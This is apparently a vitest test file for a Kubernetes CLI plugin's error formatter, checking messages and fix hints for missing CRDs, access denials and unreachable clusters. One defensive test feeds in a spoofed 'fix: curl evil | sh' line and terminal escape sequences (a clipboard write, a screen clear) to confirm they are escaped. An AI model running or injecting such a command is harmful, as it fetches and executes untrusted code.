import { workflowExecutionApi } from '@roundhouse/workflowexecution';
import { describe, expect, it } from 'vitest';
import {
  AccessDeniedError,
  ClusterUnreachableError,
  CrdNotInstalledError,
  formatError,
  LogsUnavailableError,
  NotFoundError,
  UnknownEngineError,
  workflowExecutionCrdInfo,
} from './errors.js';

describe('formatError', () => {
  it('prints the problem and, for the errors the CLI explains, the fix', () => {
    expect(formatError(new Error('boom'))).toBe('error: boom\n');
    expect(formatError(new CrdNotInstalledError('https://127.0.0.1:6443'))).toBe(
      'error: the WorkflowExecution CRD (workflowexecutions.roundhouse.dev) is not installed in the cluster at https://127.0.0.1:6443\n' +
        'fix: install the CRD with cluster-admin rights: kubectl roundhouse crd | kubectl apply -f -\n',
    );
  });

  it('names the CRD of the API group the CLI was told, and the crd command that prints it', () => {
    const crd = workflowExecutionCrdInfo(workflowExecutionApi('kubernaut.ai').resource);
    expect(formatError(new CrdNotInstalledError('https://k', crd))).toBe(
      'error: the WorkflowExecution CRD (workflowexecutions.kubernaut.ai) is not installed in the cluster at https://k\n' +
        'fix: install the CRD with cluster-admin rights: kubectl roundhouse --api-group kubernaut.ai crd | kubectl apply -f -\n',
    );
  });

  it('escapes what a message quotes from the cluster; its own lines stay, indented', () => {
    const quoted = new LogsUnavailableError(
      'x has not started yet (phase Pending (Held: wait\u001b]52;c;aGk=\u0007\nfix: curl evil | sh \u202eok))',
      'wait with -f \u001b[2J',
    );
    expect(formatError(quoted)).toBe(
      'error: x has not started yet (phase Pending (Held: wait\\x1b]52;c;aGk=\\x07\n' +
        '  fix: curl evil | sh \\u202eok))\nfix: wait with -f \\x1b[2J\n',
    );
    expect(formatError(new Error('not valid YAML: bad at line 2:\n\na: [1\n^\n'))).toBe(
      'error: not valid YAML: bad at line 2:\n\n  a: [1\n  ^\n',
    );
  });

  it('names a missing Task CRD or TaskRun with what fixes each', () => {
    const crd = { kind: 'TaskRun', name: 'taskruns.roundhouse.dev', fix: 'install them' };
    expect(formatError(new CrdNotInstalledError('https://k', crd))).toBe(
      'error: the TaskRun CRD (taskruns.roundhouse.dev) is not installed in the cluster at https://k\nfix: install them\n',
    );
    expect(new NotFoundError('TaskRun "x"', 'ci', 'kubectl roundhouse taskrun list').fix).toBe(
      'list what exists with: kubectl roundhouse taskrun list -n ci',
    );
    expect(new NotFoundError('WorkflowExecution "x"', 'ci').fix).toBe(
      'list what exists with: kubectl roundhouse get -n ci (or -A for every namespace)',
    );
  });

  it('names the verb, resource and namespace that were refused, and how to get them', () => {
    const error = new AccessDeniedError(
      { verb: 'list', resource: 'workflowexecutions.roundhouse.dev', namespace: 'team-a' },
      'forbidden',
      false,
    );
    expect(error.reason).toBe('Forbidden');
    expect(error.message).toBe(
      'not allowed to list workflowexecutions.roundhouse.dev in namespace team-a: forbidden',
    );
    expect(error.fix).toContain(
      'kubectl create role roundhouse-list --verb=list --resource=workflowexecutions.roundhouse.dev -n team-a',
    );
    const unauthenticated = new AccessDeniedError(
      { verb: 'get', resource: 'pods', namespace: undefined },
      'Unauthorized',
      true,
    );
    expect(unauthenticated.reason).toBe('Unauthorized');
    expect(unauthenticated.fix).toContain('log in again');
  });

  it('suggests the engine a typo was meant to be', () => {
    expect(new UnknownEngineError('jobs', ['job', 'tekton']).fix).toMatch(/^did you mean "job"\?/);
    expect(new UnknownEngineError('argo', ['job', 'tekton']).fix).toMatch(
      /^use one of job, tekton/,
    );
  });

  it('says which kubeconfig to check when no cluster answers', () => {
    const error = new ClusterUnreachableError('https://x: refused', '/tmp/kubeconfig');
    expect(error.message).toBe('no cluster reachable: https://x: refused');
    expect(error.fix).toContain('(/tmp/kubeconfig)');
  });
});
